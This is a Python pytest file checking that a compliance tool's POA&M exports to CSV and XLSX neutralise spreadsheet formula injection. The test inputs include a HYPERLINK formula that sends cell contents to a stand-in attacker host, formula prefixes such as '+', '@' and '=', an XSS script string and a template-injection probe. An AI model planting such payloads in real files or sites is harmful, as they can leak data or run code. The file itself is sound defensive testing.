import csv
import io
from datetime import date, datetime

import openpyxl
import pytest

from assessments import poam, spreadsheets
from controls.models import Requirement

from .export_helpers import FORMULA_START, HOSTILE, NUL_FORMULA, answer, hostile_assessment, make

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("value", [*HOSTILE, NUL_FORMULA])
def test_neutralise_quotes_exactly_the_values_a_spreadsheet_would_run(value):
    result = spreadsheets.neutralise(value)
    if value.startswith(FORMULA_START):
        assert result == "'" + value
    else:
        assert result == value


def test_neutralise_also_catches_fullwidth_formula_signs():
    assert spreadsheets.neutralise("\uff1dSUM(1)") == "'\uff1dSUM(1)"


def test_csv_reads_back_cell_for_cell_with_every_formula_neutralised():
    rows = poam.poam_rows(hostile_assessment())
    body = spreadsheets.to_csv(rows)
    assert body.startswith(b"\xef\xbb\xbf")
    parsed = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert parsed[0] == [header for _, header in poam.POAM_COLUMNS]
    assert len(parsed) == len(rows) + 1
    for row, cells in zip(rows, parsed[1:], strict=True):
        for (key, _), cell in zip(poam.POAM_COLUMNS, cells, strict=True):
            value = row[key]
            expected = "" if value is None else value.isoformat() if isinstance(value, date) else str(value)
            if isinstance(value, str) and value.startswith(FORMULA_START):
                expected = "'" + value
            assert cell == expected
            assert not cell.startswith(FORMULA_START)
    text = body.decode("utf-8-sig")
    assert "{{7*7}}" in text
    assert "x" * 10_000 in text and "\x0b" in text and "\U0001f600" in text


def test_xlsx_has_no_formula_cell_and_shows_hostile_text_literally():
    rows = poam.poam_rows(hostile_assessment())
    workbook = openpyxl.load_workbook(io.BytesIO(spreadsheets.to_xlsx(rows)))
    sheet = workbook["POA&M"]
    cells = list(sheet.iter_rows(min_row=1))
    assert [c.value for c in cells[0]] == [header for _, header in poam.POAM_COLUMNS]
    assert len(cells) == len(rows) + 1
    for row_cells in cells:
        for cell in row_cells:
            assert cell.data_type != "f", cell.coordinate
            if isinstance(cell.value, str):
                assert not cell.value.startswith(FORMULA_START), cell.coordinate
    column = {key: index for index, (key, _) in enumerate(poam.POAM_COLUMNS, start=1)}
    notes = {sheet.cell(row=i, column=1).value: sheet.cell(row=i, column=column["note"]).value
             for i in range(2, len(rows) + 2)}
    dates = [sheet.cell(row=i, column=column["planned_date"]).value for i in range(2, len(rows) + 2)]
    written = set(notes.values())
    assert "'" + '=HYPERLINK("http://evil.example/?"&A1,"click")' in written
    assert {"'+1", "'-2+3", "'@SUM(1)", "'\t=1", "<script>alert(1)</script>", "{{7*7}}", "x" * 10_000} <= written
    # XML cannot carry these characters: they show as U+FFFD instead of breaking the file.
    assert {"vt\ufffdhere", "\ufffd[31mred", "bad\ufffdchar", "\ufffd=1"} <= written
    assert "'\r=1" in written or "'\n=1" in written  # XML may normalise the CR; the quote stays first either way
    assert datetime(2030, 1, 1) in dates and None in dates
    assert all(isinstance(sheet.cell(row=i, column=5).value, int) for i in range(2, len(rows) + 2))


def test_a_nul_led_formula_is_neutralised_in_both_files():
    row = dict.fromkeys((key for key, _ in poam.POAM_COLUMNS), NUL_FORMULA) | {"points": 1, "planned_date": None}
    csv_cells = list(csv.reader(io.StringIO(spreadsheets.to_csv([row]).decode("utf-8-sig"), newline="")))[1]
    assert csv_cells[0] == "'" + NUL_FORMULA
    sheet = openpyxl.load_workbook(io.BytesIO(spreadsheets.to_xlsx([row]))).active
    assert sheet["A2"].value == "'\ufffd=1" and sheet["A2"].data_type == "s"


def test_an_empty_gap_list_still_makes_valid_files():
    assessment = make()
    for nist_id in Requirement.objects.values_list("nist_id", flat=True):
        answer(assessment, nist_id, status="met")
    rows = poam.poam_rows(assessment)
    assert rows == []
    assert spreadsheets.to_csv(rows).decode("utf-8-sig").count("\r\n") == 1
    sheet = openpyxl.load_workbook(io.BytesIO(spreadsheets.to_xlsx(rows))).active
    assert sheet.max_row == 1
